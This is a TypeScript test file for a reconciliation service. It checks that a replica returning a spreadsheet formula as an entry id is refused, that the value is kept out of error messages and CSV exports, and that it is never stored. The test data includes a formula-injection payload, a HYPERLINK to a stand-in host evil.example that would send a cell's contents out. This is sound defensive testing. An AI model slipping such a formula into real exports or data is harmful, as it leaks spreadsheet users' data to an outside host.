import t from 'tap'
import { startDeliverySetup, statusCounts, waitFor } from '../helpers/delivery-setup.js'
import { LIST, publishOwnerList } from '../helpers/reconcile-drift.js'
import { sampleEntry } from '../../sim/sample-entries.js'

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'

t.test('a replica answering a formula as an entry id is refused, and the id never reaches a report or a CSV', async (t) => {
  const { h, sim } = await startDeliverySetup(t)
  await publishOwnerList(h, 'SH', '310000')
  t.ok(await waitFor(async () => (await statusCounts(h)).delivered === 9), 'delivered')
  const ghost = sampleEntry('SH', '310000', 98)
  sim('JS').held.set(`SH:${FORMULA}`, { owner: 'SH', entryId: FORMULA, version: 1, removed: false, item: { ...ghost, entryId: FORMULA } })
  const headers = { authorization: `Bearer ${await h.adminToken('operator')}` }

  for (const method of ['range', 'export'] as const) {
    const res = await h.app.inject({ method: 'POST', url: '/v1/reconciliation/runs', headers, payload: { owner: 'SH', listCode: LIST, platform: 'JS', method } })
    t.equal(res.statusCode, 201, `${method}: the run is recorded`)
    const run = (
      res.json().runs as Array<{ id: string, status: string, error: string | null, counts: Record<string, number> }>
    )[0]
    t.equal(run?.status, 'failed', `${method}: the run failed`)
    t.match(run?.error, /^REPLICA_ID_INVALID: /, `${method}: with the stable code`)
    t.notOk(run?.error?.includes('HYPERLINK'), `${method}: the value is not echoed`)
    t.same(run?.counts, {}, `${method}: no findings`)
    const csv = await h.app.inject({ url: `/v1/reconciliation/runs/${run?.id ?? ''}?format=csv`, headers })
    t.equal(csv.statusCode, 200)
    t.notOk(csv.body.includes('HYPERLINK'), `${method}: not in the CSV`)
  }
  const stored = await h.db.query('SELECT count(*)::int AS n FROM reconciliation_findings WHERE entry_id LIKE $1', ['%HYPERLINK%'])
  t.equal(stored.rows[0].n, 0, 'nothing of the answer stored')
})
